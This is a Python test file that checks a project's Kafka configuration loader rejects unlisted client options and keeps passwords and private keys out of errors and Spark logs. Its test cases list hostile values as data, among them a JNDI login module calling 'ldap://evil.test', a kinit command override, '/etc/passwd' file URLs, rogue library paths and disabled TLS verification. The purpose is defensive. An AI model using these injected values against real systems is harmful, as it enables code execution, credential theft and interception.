"""The [kafka] block as an attacker or a slip would write it: what is not on the list is refused, and no secret is logged."""

import re
from pathlib import Path

import pytest

from surveylake.config import load_config
from surveylake.errors import ConfigError
from surveylake.kafka.credentials import KEY_PASSWORD_VARIABLE, PASSWORD_VARIABLE
from surveylake.kafka.options import client_options, spark_options
from surveylake.runtime.spark_conf import spark_setting

SECRET = "HUNTER2"
KEY_LINE = "TUlJRXZRSUJBREFOQmdrcWhraUc5dzBCQVFF"
PEM = "-----BEGIN {what}-----\n{line}\n-----END {what}-----\n"
OAUTH = {
    "security.protocol": "SASL_SSL",
    "sasl.mechanism": "OAUTHBEARER",
    "sasl.oauthbearer.client.id": "olga",
    "sasl.oauthbearer.token.endpoint.url": "https://login.test/token",
}
ENDPOINT = "sasl.oauthbearer.token.endpoint.url"


def conf(folder: Path, options: dict[str, str]) -> Path:
    """A conf file with these options, at a broker on another machine."""
    path = folder / "conf.toml"
    lines = "".join(f"'{name}' = '{value}'\n" for name, value in options.items())
    path.write_text(f'[kafka]\nbootstrap = "far.test:9093"\n[kafka.options]\n{lines}', "utf-8")
    return path


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("sasl.jaas.config", "com.sun.security.auth.module.JndiLoginModule required user.provider.url='ldap://evil.test';"),
        ("ssl.engine.factory.class", "evil.Factory"),
        ("sasl.login.class", "evil.Login"),
        ("sasl.login.callback.handler.class", "evil.Handler"),
        ("sasl.client.callback.handler.class", "evil.Handler"),
        ("sasl.oauthbearer.jwt.retriever.class", "evil.Retriever"),
        ("security.providers", "evil.Provider"),
        ("metric.reporters", "evil.Reporter"),
        ("interceptor.classes", "evil.Interceptor"),
        ("key.deserializer", "evil.Deserializer"),
        ("partition.assignment.strategy", "evil.Assignor"),
        ("plugin.library.paths", "/tmp/evil.so"),
        ("ssl.engine.location", "/tmp/evil.so"),
        ("ssl.providers", "evil"),
        ("sasl.kerberos.kinit.cmd", "touch /tmp/evil"),
        ("sasl.oauthbearer.jwks.endpoint.url", "file:///etc/passwd"),
        ("sasl.oauthbearer.assertion.file", "/etc/passwd"),
        ("sasl.oauthbearer.config", "principal=admin"),
        ("enable.sasl.oauthbearer.unsecure.jwt", "true"),
        ("enable.ssl.certificate.verification", "false"),
        ("ssl.endpoint.identification.algorithm", ""),
        ("https.ca.location", "/tmp/evil.pem"),
        ("ssl.key.pem", "-----BEGIN PRIVATE KEY-----"),
        ("ssl.keystore.password", "secret"),
        ("bootstrap.servers", "evil.test:9092"),
        ("metadata.broker.list", "evil.test:9092"),
        ("security.protocol ", "PLAINTEXT"),
        ("Security.Protocol", "PLAINTEXT"),
        ("kafka.security.protocol", "PLAINTEXT"),
        ("debug", "all"),
    ],
)  # fmt: skip
def test_an_option_that_is_not_on_the_list_is_refused_by_its_name(
    option: str, value: str, tmp_path: Path
) -> None:
    path = conf(tmp_path, {"security.protocol": "SSL", option: value.replace("'", '"')})
    with pytest.raises(ConfigError, match=f"not an option this project passes on: {re.escape(option)};"):
        load_config(path)


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        " file:///etc/passwd",
        "FILE:///etc/passwd",
        "jar:https://login.test/evil.jar!/token",
        "ftp://login.test/token",
        "http://login.test/token",
        "http://127.0.0.1@login.test/token",
        "http://127.0.0.1.login.test/token",
        "http://localhost.login.test/token",
        "//login.test/token",
        "/etc/passwd",
        "https",
    ],
)
def test_a_token_endpoint_without_tls_gets_no_secret(
    url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(PASSWORD_VARIABLE, SECRET)
    kafka = load_config(conf(tmp_path, {**OAUTH, ENDPOINT: url})).kafka
    for translate in (client_options, spark_options):
        with pytest.raises(ConfigError, match=f"{ENDPOINT} is no https address") as caught:
            translate(kafka)
        assert SECRET not in caught.value.message + caught.value.hint


@pytest.mark.parametrize(
    "url", ["https://login.test/token", "http://127.0.0.1:8080/token", "http://[::1]/token"]
)
def test_a_token_endpoint_with_tls_or_on_loopback_is_taken(
    url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(PASSWORD_VARIABLE, SECRET)
    kafka = load_config(conf(tmp_path, {**OAUTH, ENDPOINT: url})).kafka
    assert client_options(kafka)[ENDPOINT] == spark_options(kafka)[f"kafka.{ENDPOINT}"] == url


def as_spark_logs_it(name: str, value: str) -> str:
    """A parameter of Kafka's client as Spark's KafkaRedactionUtil writes it, by the setting of conf/spark-defaults.conf."""
    if name == "kafka.sasl.jaas.config":
        return re.sub('password=".*"', 'password="[hidden]"', value)
    pattern = spark_setting("spark.redaction.regex")
    return "[hidden]" if re.search(pattern, name) or re.search(pattern, value) else value


@pytest.mark.parametrize("mechanism", ["PLAIN", "SCRAM-SHA-256", "SCRAM-SHA-512", "OAUTHBEARER"])
def test_spark_leaves_every_secret_out_of_what_it_logs(
    mechanism: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(PASSWORD_VARIABLE, SECRET)
    monkeypatch.setenv(KEY_PASSWORD_VARIABLE, SECRET)
    certificate, key = tmp_path / "client.crt", tmp_path / "client.key"
    certificate.write_text(PEM.format(what="CERTIFICATE", line="public"))
    key.write_text(PEM.format(what="PRIVATE KEY", line=KEY_LINE))
    login = OAUTH if mechanism == "OAUTHBEARER" else {"security.protocol": "SASL_SSL", "sasl.username": "ann"}
    files = {"ssl.certificate.location": str(certificate), "ssl.key.location": str(key)}
    kafka = load_config(conf(tmp_path, {**login, "sasl.mechanism": mechanism, **files})).kafka
    given = spark_options(kafka)
    assert SECRET in str(given) and KEY_LINE in str(given)
    logged = str([as_spark_logs_it(name, value) for name, value in given.items()])
    assert SECRET not in logged
    assert KEY_LINE not in logged
